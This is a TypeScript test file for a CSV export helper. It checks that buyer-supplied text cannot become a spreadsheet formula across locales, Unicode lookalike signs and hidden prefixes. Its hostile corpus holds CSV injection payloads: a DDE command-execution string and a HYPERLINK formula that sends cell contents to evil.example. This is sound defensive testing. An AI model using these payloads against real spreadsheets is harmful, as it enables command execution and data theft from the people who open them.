import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { type CsvStyle, csvCell, csvStyleOf, plainText } from '../../src/core/csv-cell';
import { csvFile } from '../../src/ui/dashboard/csv-text';

const COMMA: CsvStyle = { delimiter: ',', decimal: '.' };
const SEMICOLON: CsvStyle = { delimiter: ';', decimal: ',' };

/** What buyers could name themselves, or write as a subject. */
const BEGINNINGS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹣'];
const BEFORE = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200e',
  '\u2060',
  '\u00ad',
  '"',
  "'",
  '“',
  ' "\u200b ',
  '\u0000',
];
const LINES = ['', 'Hello\n', 'Hello\r\n', 'Hello\r', 'a\tb\t', 'x\u2028', '\n\n', '\t'];
const REST = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"Order")',
  '1+1',
  'SUM(A1:A9)',
  'DDE("a";"b";"c")',
];
const HOSTILE = BEGINNINGS.flatMap((sign) =>
  BEFORE.flatMap((before) => LINES.flatMap((lines) => REST.map((rest) => `${lines}${before}${sign}${rest}`))),
);

/** As spreadsheets see it: each line of a cell, and each piece between tabs, without what they drop in front. */
const piecesOf = (cell: string): string[] =>
  cell.split(/[\t\r\n\v\f\u0085\u2028\u2029]/u).map((piece) => piece.replace(/^[\p{Z}\p{Cf}\p{Cc}"“]+/u, ''));
const isFormula = (piece: string): boolean => BEGINNINGS.some((sign) => piece.startsWith(sign));

const read = async (blob: Blob, delimiter: string): Promise<string[][]> => {
  const bytes = new Uint8Array(await blob.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes);
  expect(text.endsWith('\r\n')).toBe(true);
  return Papa.parse<string[]>(text.slice(0, -2), { delimiter, newline: '\r\n' }).data;
};

describe('a text that would be a formula', () => {
  test.each([COMMA, SEMICOLON])(
    'is none in any cell, line or piece of a hostile corpus, and is otherwise as it was',
    async (style) => {
      const rows = HOSTILE.map((text) => [text, 'next']);
      const [, ...found] = await read(csvFile(['a', 'b'], rows, style), style.delimiter);
      expect(found).toHaveLength(HOSTILE.length);
      for (const [i, [cell, next]] of found.entries()) {
        expect(next).toBe('next');
        expect(piecesOf(cell!).filter(isFormula)).toEqual([]);
        expect(cell!.replaceAll("'", '')).toBe(HOSTILE[i]!.replaceAll("'", ''));
      }
    },
  );

  test('is none where the file is opened in a country of another delimiter', () => {
    for (const text of ['a;=1+1', 'a; "=1+1', 'x;＝1', '"a";@SUM(A1)'])
      expect(
        piecesOf(csvCell(text, COMMA))
          .flatMap((piece) => piecesOf(piece.replaceAll(';', '\t')))
          .filter(isFormula),
      ).toEqual([]);
    expect(csvCell('a,=1+1', SEMICOLON)).toBe("a,'=1+1");
    expect(csvCell('Hello, -5 % off', COMMA)).toBe('Hello, -5 % off');
  });

  test('begins with a tab or a line end: those stand behind an apostrophe', () => {
    for (const text of ['\tx', '\rx', '\nx']) expect(plainText(text)).toBe(`'${text}`);
  });

  test('in the names of columns, too', async () => {
    const [head] = await read(csvFile(['=1+1', 'ok'], [], COMMA), ',');
    expect(head).toEqual(["'=1+1", 'ok']);
  });
});

test('plain texts stay as they are: names, orders, times, e-mail addresses', () => {
  for (const text of [
    'Anna K.',
    'Ünïcode 漢字',
    '405-1234567-1234567',
    '2026-11-28T10:00:00.000Z',
    'a@b.example',
    'x = y',
    'late-night',
    '5 - 3',
    '',
  ])
    expect(plainText(text)).toBe(text);
});

test('our own numbers stay numbers, also negative ones, with the decimal sign of the country', () => {
  expect(csvCell(-1.5, COMMA)).toBe('-1.5');
  expect(csvCell(-1.5, SEMICOLON)).toBe('-1,5');
  expect(csvCell(12, SEMICOLON)).toBe('12');
  expect([csvCell(null, COMMA), csvCell(Number.NaN, COMMA)]).toEqual(['', '']);
});

test('the style follows the country: semicolon and decimal comma where numbers are written so', () => {
  for (const language of ['de-DE', 'fr-FR', 'it', 'es-ES', 'pl', 'pt-BR', 'sv-SE', 'nl-NL', 'tr'])
    expect(csvStyleOf(language)).toEqual(SEMICOLON);
  for (const language of ['en-US', 'en-GB', 'en-IN', 'ja', 'hi', 'zh-CN', 'de-CH'])
    expect(csvStyleOf(language)).toEqual(COMMA);
});

test('cells with delimiters, quotes, line ends and blanks come back as they were', async () => {
  const cells = ['a,b', 'a;b', 'say "no"', 'two\r\nlines', ' edge ', 'plain', 'ends with "'];
  for (const style of [COMMA, SEMICOLON]) {
    const rows = await read(csvFile(cells, [cells], style), style.delimiter);
    expect(rows).toEqual([cells, cells]);
  }
});
